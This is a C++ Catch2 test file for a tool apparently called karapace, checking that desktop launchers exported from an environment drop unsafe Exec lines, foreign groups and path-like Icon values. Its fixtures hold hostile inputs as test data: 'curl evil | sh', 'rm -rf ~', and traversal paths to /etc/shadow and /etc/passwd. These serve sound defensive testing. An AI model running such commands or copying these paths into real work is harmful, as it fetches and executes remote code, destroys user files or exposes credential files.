#include <catch2/catch.hpp>

#include "karapace/export/exec_line.hpp"
#include "karapace/export/icons.hpp"
#include "karapace/export/launcher.hpp"
#include "karapace/util/error.hpp"
#include "support.hpp"

using namespace karapace;
using namespace karapace::exports;
using namespace karapace::exports::test;

namespace {

const std::string editor = R"([Desktop Entry]
Type=Application
Name=Text Editor
Name[de]=Texteditor
GenericName=Editor
Exec=gnome-text-editor --title "A \\"B\\"" %U
TryExec=gnome-text-editor
DBusActivatable=true
Path=/srv/app
Icon=org.gnome.TextEditor
Icon[de]=org.gnome.TextEditor-de
Actions=new-window;missing;
MimeType=text/plain;

[Desktop Action new-window]
Name=New Window
Exec=gnome-text-editor --new-window %d

[Desktop Action orphan]
Name=Not listed
Exec=rm -rf ~

[X-Vendor Hooks]
Exec=curl evil | sh
)";

LaunchTarget target() {
    return {std::string(64, 'a'), "dev", "/usr/bin/karapace", "/home/u/.local/share/karapace"};
}

MergedTree apps_tree(const TempDir& t) {
    put(t / "base/usr/share/applications/org.gnome.TextEditor.desktop", editor);
    put(t / "base/usr/share/applications/htop.desktop",
        "[Desktop Entry]\nType=Application\nName=htop\nExec=htop\nTerminal=true\n");
    put(t / "base/usr/share/applications/kde4/konsole.desktop",
        "[Desktop Entry]\nType=Application\nName=Konsole\nExec=/usr/bin/konsole\n");
    put(t / "base/usr/share/applications/a.Viewer.desktop",
        "[Desktop Entry]\nType=Application\nName=V1\nExec=viewer\n");
    put(t / "base/usr/share/applications/b.Viewer.desktop",
        "[Desktop Entry]\nType=Application\nName=V2\nExec=viewer --other\n");
    put(t / "base/usr/share/applications/gone.desktop",
        "[Desktop Entry]\nType=Application\nName=Gone\nExec=gone\nHidden=true\n");
    put(t / "base/usr/share/applications/site.desktop",
        "[Desktop Entry]\nType=Link\nName=Site\nURL=https://example.org\n");
    put(t / "base/usr/local/share/applications/htop.desktop",
        "[Desktop Entry]\nType=Application\nName=htop (local)\nExec=/usr/local/bin/htop\n");
    return MergedTree({t / "upper", t / "base"});
}

}  // namespace

TEST_CASE("applications are found by id, by the end of a reverse-DNS id, or by executable",
          "[export][launcher]") {
    TempDir t;
    auto tree = apps_tree(t);
    CHECK(find_app(tree, "org.gnome.TextEditor", "dev").id == "org.gnome.TextEditor");
    CHECK(find_app(tree, "org.gnome.TextEditor.desktop", "dev").id == "org.gnome.TextEditor");
    CHECK(find_app(tree, "texteditor", "dev").id == "org.gnome.TextEditor");
    CHECK(find_app(tree, "gnome-text-editor", "dev").id == "org.gnome.TextEditor");
    CHECK(find_app(tree, "kde4-konsole", "dev").id == "kde4-konsole");
    CHECK(find_app(tree, "konsole", "dev").id == "kde4-konsole");
    // /usr/local/share comes first in XDG_DATA_DIRS and shadows the same id below.
    CHECK(find_app(tree, "htop", "dev").source == "/usr/local/share/applications/htop.desktop");
}

TEST_CASE("an ambiguous or missing application is an error that says what to do",
          "[export][launcher]") {
    TempDir t;
    auto tree = apps_tree(t);
    try {
        find_app(tree, "viewer", "dev");
        FAIL("no error");
    } catch (const Error& e) {
        CHECK(e.code() == Errc::conflict);
        CHECK_THAT(e.what(), Catch::Contains("a.Viewer") && Catch::Contains("b.Viewer"));
    }
    try {
        find_app(tree, "gone", "dev");
        FAIL("a Hidden entry was found");
    } catch (const Error& e) {
        CHECK(e.code() == Errc::not_found);
        CHECK_THAT(e.what(), Catch::Contains("environment dev"));
        CHECK_THAT(e.hint(), Catch::Contains("karapace exec dev"));
    }
    CHECK_THROWS_AS(find_app(tree, "site", "dev"), Error);  // a Link, not an application
    CHECK_THROWS_WITH(find_app(tree, "../etc/passwd", "dev"), Catch::Contains("'..'"));
}

TEST_CASE("the launcher runs the original command line inside the environment",
          "[export][launcher]") {
    TempDir t;
    auto tree = apps_tree(t);
    auto app = find_app(tree, "org.gnome.TextEditor", "dev");
    auto out = make_launcher(app, target(), "karapace-dev-org.gnome.TextEditor");
    auto exec = out.get("Desktop Entry", "Exec");
    REQUIRE(exec);
    auto args = split_exec(unescape_value(*exec), "launcher");
    auto run = expand_exec(args, {"/home/u/a file.txt", "/home/u/b.txt"});
    CHECK(run ==
          std::vector<std::string>{"/usr/bin/karapace", "--store", "/home/u/.local/share/karapace",
                                   "exec", std::string(64, 'a'), "--", "gnome-text-editor",
                                   "--title", "A \"B\"", "/home/u/a file.txt", "/home/u/b.txt"});
    CHECK(args.back().field_code);
    CHECK(args.back().text == "%U");
}

TEST_CASE("the launcher marks the names, drops host-side keys and foreign groups",
          "[export][launcher]") {
    TempDir t;
    auto tree = apps_tree(t);
    auto app = find_app(tree, "org.gnome.TextEditor", "dev");
    auto out = make_launcher(app, target(), "karapace-dev-org.gnome.TextEditor");
    auto text = out.render();
    CHECK_THAT(text, Catch::Contains("\nName=Text Editor (dev)\n"));
    CHECK_THAT(text, Catch::Contains("\nName[de]=Texteditor (dev)\n"));
    CHECK_THAT(text, Catch::Contains("\nGenericName=Editor\n"));
    CHECK_THAT(text, Catch::Contains("\nMimeType=text/plain;\n"));
    for (const char* gone : {"TryExec", "DBusActivatable", "Path=", "Icon[de]", "orphan",
                             "X-Vendor", "curl", "rm -rf", "missing;", "%d"})
        CHECK(text.find(gone) == std::string::npos);
    CHECK(out.get("Desktop Entry", "Icon") == "karapace-dev-org.gnome.TextEditor");
    CHECK(out.get("Desktop Entry", "Actions") == "new-window;");
    CHECK(out.get("Desktop Entry", "StartupWMClass") == "org.gnome.TextEditor");
    CHECK(exported_env_of(text) == std::string(64, 'a'));
    auto action = out.get("Desktop Action new-window", "Exec");
    REQUIRE(action);
    CHECK(expand_exec(split_exec(unescape_value(*action), "a"), {}) ==
          std::vector<std::string>{"/usr/bin/karapace", "--store", "/home/u/.local/share/karapace",
                                   "exec", std::string(64, 'a'), "--", "gnome-text-editor",
                                   "--new-window"});
    CHECK(launcher_file_name(app, "dev") == "karapace-dev-org.gnome.TextEditor.desktop");
}

TEST_CASE("no Exec of the entry survives unwrapped, not even a localised one",
          "[export][launcher]") {
    AppEntry app{"x", "/usr/share/applications/x.desktop",
                 DesktopEntry::parse("[Desktop Entry]\nExec[de]=rm -rf ~\nExec=x\nActions=a;\n"
                                     "[Desktop Action a]\nExec[fr]=curl evil\nExec=x --a\n",
                                     "x.desktop")};
    auto text = make_launcher(app, target(), "").render();
    CHECK(text.find("rm -rf") == std::string::npos);
    CHECK(text.find("curl") == std::string::npos);
    auto back = DesktopEntry::parse(text, "launcher");
    for (const auto& g : back.groups())
        for (const auto& l : g.lines)
            if (l.key == "Exec")
                CHECK(split_exec(unescape_value(l.value), "l")[0].text == "/usr/bin/karapace");
}

TEST_CASE("only the launcher's own marker names its environment", "[export][launcher]") {
    const std::string other = std::string(64, 'f');
    AppEntry app{"x", "/usr/share/applications/x.desktop",
                 DesktopEntry::parse("# X-Karapace-Env=" + other +
                                         "\n[Desktop Action a]\nX-Karapace-Env=" + other +
                                         "\nExec=a\n[Desktop Entry]\n# X-Karapace-Env=" + other +
                                         "\nActions=a;\nExec=x X-Karapace-Env=" + other + "\n",
                                     "x.desktop")};
    auto text = make_launcher(app, target(), "").render();
    CHECK(exported_env_of(text) == std::string(64, 'a'));
    CHECK(text.find("X-Karapace-Env=" + other) != std::string::npos);  // the Exec argument
    CHECK(exported_env_of("Exec=x X-Karapace-Env=" + other + "\n").empty());
}

TEST_CASE("an empty Name still reads back with the label", "[export][launcher]") {
    AppEntry app{"x", "/usr/share/applications/x.desktop",
                 DesktopEntry::parse("[Desktop Entry]\nName=\nExec=x\n", "x.desktop")};
    auto text = make_launcher(app, target(), "").render();
    CHECK(DesktopEntry::parse(text, "l").get("Desktop Entry", "Name") == "\\s(dev)");
    CHECK(unescape_value(*DesktopEntry::parse(text, "l").get("Desktop Entry", "Name")) == " (dev)");
}

TEST_CASE("a launcher keeps thousands of actions in order", "[export][launcher]") {
    std::string list, groups;
    for (int i = 0; i < 20000; ++i) {
        list += "a" + std::to_string(i) + ";";
        groups += "[Desktop Action a" + std::to_string(i) + "]\nExec=x\n";
    }
    AppEntry app{"x", "/usr/share/applications/x.desktop",
                 DesktopEntry::parse("[Desktop Entry]\nExec=x\nActions=" + list + "\n" + groups +
                                         "[Desktop Action gone]\nExec=y\n",
                                     "x.desktop")};
    auto out = make_launcher(app, target(), "");
    CHECK(out.get("Desktop Entry", "Actions") == list);
    CHECK(out.groups().size() == 20001);
}

TEST_CASE("without an icon copy the launcher keeps the entry's Icon", "[export][launcher]") {
    TempDir t;
    auto tree = apps_tree(t);
    auto out = make_launcher(find_app(tree, "org.gnome.TextEditor", "dev"), target(), "");
    CHECK(out.get("Desktop Entry", "Icon") == "org.gnome.TextEditor");
}

TEST_CASE("an Icon that is a path never reaches the launcher in any locale or action",
          "[export][launcher]") {
    // The desktop reads Icon on the host: a path would show (or probe) a host file.
    AppEntry app{"x", "/usr/share/applications/x.desktop",
                 DesktopEntry::parse("[Desktop Entry]\nExec=x\nIcon=../../../../etc/shadow\n"
                                     "Icon[de]=/etc/shadow\nIcon[fr]=x-fr\nActions=a;\n"
                                     "[Desktop Action a]\nExec=x -a\nIcon=/etc/passwd\n"
                                     "[Desktop Action b]\nExec=x -b\n",
                                     "x.desktop")};
    auto out = make_launcher(app, target(), "");
    auto text = out.render();
    CHECK_FALSE(out.get("Desktop Entry", "Icon").has_value());
    CHECK(text.find("/etc/") == std::string::npos);
    CHECK(text.find("Icon[de]") == std::string::npos);
    CHECK(text.find("Icon[fr]=x-fr\n") != std::string::npos);  // a plain name stays
    CHECK_FALSE(out.get("Desktop Action a", "Icon").has_value());

    // The copy karapace made is named by its own absolute path.
    auto copied = make_launcher(app, target(), "/home/u/.local/share/icons/karapace-dev-x.png");
    CHECK(copied.get("Desktop Entry", "Icon") == "/home/u/.local/share/icons/karapace-dev-x.png");
    CHECK(copied.render().find("/etc/") == std::string::npos);

    for (const char* plain : {"org.gnome.TextEditor", "utilities-terminal", "firefox.png"})
        CHECK(plain_icon_name(plain));
    for (const char* path : {"/etc/shadow", "../x", "icons/x", ".hidden", "-x", "a..b", ""})
        CHECK_FALSE(plain_icon_name(path));
}

TEST_CASE("icons are copied from every hicolor size, scalable and symbolic, under the prefix",
          "[export][icons]") {
    TempDir t;
    put(t / "base/usr/share/icons/hicolor/48x48/apps/org.x.App.png", "png48");
    put(t / "base/usr/share/icons/hicolor/scalable/apps/org.x.App.svg", "<svg/>");
    put(t / "base/usr/share/icons/hicolor/symbolic/apps/org.x.App-symbolic.svg", "<svg/>");
    put(t / "base/usr/share/icons/hicolor/48x48/apps/org.x.Other.png", "no");
    put(t / "base/usr/share/pixmaps/legacy.xpm", "xpm");
    put(t / "base/opt/app/icon.png", "abs");
    MergedTree tree({t / "upper", t / "base"});
    auto home = t / "home/.local/share";

    auto plan = plan_icon(tree, "org.x.App", "karapace-dev-", home);
    CHECK(plan.icon == "karapace-dev-org.x.App");
    REQUIRE(plan.copies.size() == 3);
    copy_icons(plan);
    CHECK(read_file(home + "/icons/hicolor/48x48/apps/karapace-dev-org.x.App.png") == "png48");
    CHECK(read_file(home + "/icons/hicolor/scalable/apps/karapace-dev-org.x.App.svg") == "<svg/>");
    CHECK(read_file(home + "/icons/hicolor/symbolic/apps/karapace-dev-org.x.App-symbolic.svg") ==
          "<svg/>");

    auto pix = plan_icon(tree, "legacy", "karapace-dev-", home);
    CHECK(pix.icon == home + "/icons/karapace-dev-legacy.xpm");
    auto abs = plan_icon(tree, "/opt/app/icon.png", "karapace-dev-", home);
    CHECK(abs.icon == home + "/icons/karapace-dev-icon.png");
    CHECK(plan_icon(tree, "missing", "karapace-dev-", home).icon.empty());
    CHECK(plan_icon(tree, "../../etc/passwd", "karapace-dev-", home).copies.empty());
}
